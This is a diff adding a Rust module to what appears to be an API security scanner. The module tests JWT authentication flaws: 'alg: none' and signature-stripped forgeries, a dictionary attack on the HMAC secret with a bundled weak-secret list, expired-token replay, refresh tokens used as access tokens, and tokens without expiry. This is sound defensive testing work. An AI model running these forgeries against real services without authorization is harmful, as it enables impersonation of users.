@@ -1,0 +1,263 @@
+//! API2 (broken authentication), part two: JWT attacks on an identity's own token, each
+//! confirmed on an operation that refuses anonymous callers: `alg: none` in several casings,
+//! a stripped signature, an offline dictionary attack on the HMAC secret (confirmed by a
+//! forged token), expired-token replay, a refresh token used as an access token, and tokens
+//! issued without `exp`.
+
+use base64::Engine as _;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey, Header, Validation};
+use reqwest::Method;
+use serde_json::{Value, json};
+
+use crate::ctx::{Ctx, jwt_parts};
+use crate::finding::{Finding, Severity, rules};
+use crate::http::Req;
+use crate::model::Op;
+
+const PROBE: &str = "jwt";
+
+/// Secrets tried offline, besides `portcullis_policy::load::COMMON_JWT_SECRETS`.
+const EXTRA_WORDS: &[&str] = &[
+    "changeit",
+    "pass",
+    "passw0rd",
+    "welcome",
+    "hello",
+    "token",
+    "auth",
+    "jwt-key",
+    "jwtkey",
+    "secret1",
+    "secret!",
+    "topsecret",
+    "privatekey",
+    "HS256",
+    "your_jwt_secret",
+    "my-secret",
+    "development",
+    "dev",
+    "prod",
+    "production",
+    "abc123",
+    "12345678",
+    "iloveyou",
+    "root",
+];
+
+fn now() -> i64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_secs() as i64)
+        .unwrap_or_default()
+}
+
+/// An operation where a valid token gets 2xx and no token does not: the oracle.
+fn oracle(ctx: &Ctx, who: usize) -> Option<(&Op, Req)> {
+    let anon = ctx.anonymous();
+    let mut candidates: Vec<&Op> = ctx
+        .model
+        .ops
+        .iter()
+        .filter(|o| o.method == Method::GET && o.secured && !o.deprecated && !o.is_admin())
+        .filter(|o| ctx.baseline(o, who).is_some_and(|s| s.resp.ok()))
+        .filter(|o| {
+            ctx.baseline(o, anon)
+                .is_some_and(|s| matches!(s.resp.status, 401 | 403))
+        })
+        .collect();
+    candidates.sort_by_key(|o| o.has_path_params());
+    let op = candidates.into_iter().next()?;
+    let mut req = ctx.baseline(op, who)?.req;
+    req.auth = None;
+    Some((op, req))
+}
+
+fn b64(v: &Value) -> String {
+    URL_SAFE_NO_PAD.encode(v.to_string())
+}
+
+pub(crate) async fn run(ctx: &Ctx) {
+    let Some(who) = ctx.users().into_iter().find(|&u| {
+        ctx.sessions[u]
+            .token()
+            .is_some_and(|t| jwt_parts(&t).is_some())
+    }) else {
+        ctx.note("jwt: no identity has a JWT bearer token; JWT probes skipped");
+        return;
+    };
+    let Some(token) = ctx.sessions[who].token() else {
+        return;
+    };
+    let Some((header, claims)) = jwt_parts(&token) else {
+        return;
+    };
+    let Some((op, base)) = oracle(ctx, who) else {
+        ctx.note(
+            "jwt: no operation answers a valid token 2xx and no token 401; JWT probes skipped",
+        );
+        return;
+    };
+    ctx.ran(op, PROBE);
+    let key = op.key();
+    let try_token = |label: &str, t: String| {
+        base.clone()
+            .bearer(&format!("forged token ({label})"), &t, "FORGED_TOKEN")
+    };
+    let parts: Vec<&str> = token.split('.').collect();
+
+    // alg none, several casings.
+    for alg in ["none", "None", "NONE", "nOnE"] {
+        let mut h = header.clone();
+        h["alg"] = json!(alg);
+        let req = try_token(
+            &format!("alg {alg}"),
+            format!("{}.{}.", b64(&h), parts.get(1).unwrap_or(&"")),
+        );
+        if let Some(resp) = ctx.send(&req).await
+            && resp.ok()
+        {
+            ctx.report(
+                Finding::new(rules::JWT_ALG_NONE, Severity::Critical, &key, "")
+                    .detail(format!("A copy of {}'s token re-labelled `alg: {alg}` with no signature was accepted ({}).", ctx.sessions[who].name, resp.status))
+                    .evidence(ctx.http.exchange(&req, Some(&resp)))
+                    .reproduce(ctx.http.curl(&req)),
+            );
+            break;
+        }
+    }
+
+    // Signature stripped, algorithm kept.
+    if parts.len() == 3 {
+        let req = try_token("signature stripped", format!("{}.{}.", parts[0], parts[1]));
+        if let Some(resp) = ctx.send(&req).await
+            && resp.ok()
+        {
+            ctx.report(
+                Finding::new(rules::JWT_NO_SIGNATURE, Severity::Critical, &key, "")
+                    .detail("The token with its signature removed was accepted.")
+                    .evidence(ctx.http.exchange(&req, Some(&resp)))
+                    .reproduce(ctx.http.curl(&req)),
+            );
+        }
+    }
+
+    // Offline dictionary attack on the HMAC secret.
+    let alg = header.get("alg").and_then(Value::as_str).unwrap_or("");
+    let alg = match alg {
+        "HS256" => Some(Algorithm::HS256),
+        "HS384" => Some(Algorithm::HS384),
+        "HS512" => Some(Algorithm::HS512),
+        _ => None,
+    };
+    let mut cracked = None;
+    if let Some(alg) = alg {
+        let mut validation = Validation::new(alg);
+        validation.validate_exp = false;
+        validation.validate_aud = false;
+        validation.required_spec_claims.clear();
+        let words = portcullis_policy::load::COMMON_JWT_SECRETS
+            .iter()
+            .chain(EXTRA_WORDS);
+        for (i, w) in words.enumerate() {
+            let Ok(k) = DecodingKey::from_secret(w.as_bytes()) else {
+                continue;
+            };
+            if jsonwebtoken::decode::<Value>(&token, &k, &validation).is_ok() {
+                cracked = Some((i + 1, *w, alg));
+                break;
+            }
+        }
+    }
+    if let Some((rank, word, alg)) = cracked {
+        ctx.http.add_secret(word);
+        let forge = |c: &Value| -> Option<String> {
+            let k = EncodingKey::from_secret(word.as_bytes()).ok()?;
+            jsonwebtoken::encode(&Header::new(alg), c, &k).ok()
+        };
+        let mut fresh = claims.clone();
+        fresh["iat"] = json!(now());
+        if fresh.get("exp").is_some() {
+            fresh["exp"] = json!(now() + 600);
+        }
+        if fresh.get("jti").is_some() {
+            fresh["jti"] = json!(format!("portcullis-forged-{}", super::tag()));
+        }
+        let mut finding = Finding::new(rules::JWT_WEAK_SECRET, Severity::Critical, &key, "").detail(format!(
+            "The token's {alg:?} secret was found offline: it is word #{rank} of the bundled word list ({} characters; not shown).",
+            word.len()
+        ));
+        if let Some(t) = forge(&fresh) {
+            let req = try_token("signed with the cracked secret", t);
+            if let Some(resp) = ctx.send(&req).await {
+                let accepted = resp.ok();
+                finding = finding
+                    .evidence(ctx.http.exchange(&req, Some(&resp)))
+                    .reproduce(ctx.http.curl(&req));
+                if accepted {
+                    finding.detail.push_str(
+                        " A token minted with it was accepted: anyone can impersonate any user.",
+                    );
+                }
+            }
+        }
+        ctx.report(finding);
+        // Expired-token replay: the secret lets us mint an expired copy.
+        let mut stale = claims.clone();
+        stale["iat"] = json!(now() - 7200);
+        stale["exp"] = json!(now() - 3600);
+        if let Some(t) = forge(&stale) {
+            let req = try_token("expired an hour ago", t);
+            if let Some(resp) = ctx.send(&req).await
+                && resp.ok()
+            {
+                ctx.report(
+                    Finding::new(rules::JWT_EXPIRED, Severity::High, &key, "")
+                        .detail("A correctly signed token that expired an hour ago was accepted.")
+                        .evidence(ctx.http.exchange(&req, Some(&resp)))
+                        .reproduce(ctx.http.curl(&req)),
+                );
+            }
+        }
+    }
+
+    if claims.get("exp").is_none() {
+        let mut req = base.clone();
+        req = ctx.as_who(req, who);
+        if let Some(resp) = ctx.send(&req).await
+            && resp.ok()
+        {
+            ctx.report(
+                Finding::new(rules::JWT_NO_EXPIRY, Severity::Medium, &key, "")
+                    .detail(format!(
+                        "{}'s token has no `exp` claim and is accepted: it never expires.",
+                        ctx.sessions[who].name
+                    ))
+                    .evidence(ctx.http.exchange(&req, Some(&resp)))
+                    .reproduce(ctx.http.curl(&req)),
+            );
+        }
+    }
+
+    // A refresh token presented as an access token.
+    let refresh = ctx.sessions[who]
+        .refresh
+        .read()
+        .ok()
+        .and_then(|r| r.clone());
+    if let Some(rt) = refresh {
+        let req = base
+            .clone()
+            .bearer("refresh token as access token", &rt, "REFRESH_TOKEN");
+        if let Some(resp) = ctx.send(&req).await
+            && resp.ok()
+        {
+            ctx.report(
+                Finding::new(rules::JWT_REFRESH_AS_ACCESS, Severity::High, &key, "")
+                    .detail(format!("{}'s refresh token was accepted as an access token: a long-lived token opens the API.", ctx.sessions[who].name))
+                    .evidence(ctx.http.exchange(&req, Some(&resp)))
+                    .reproduce(ctx.http.curl(&req)),
+            );
+        }
+    }
+}
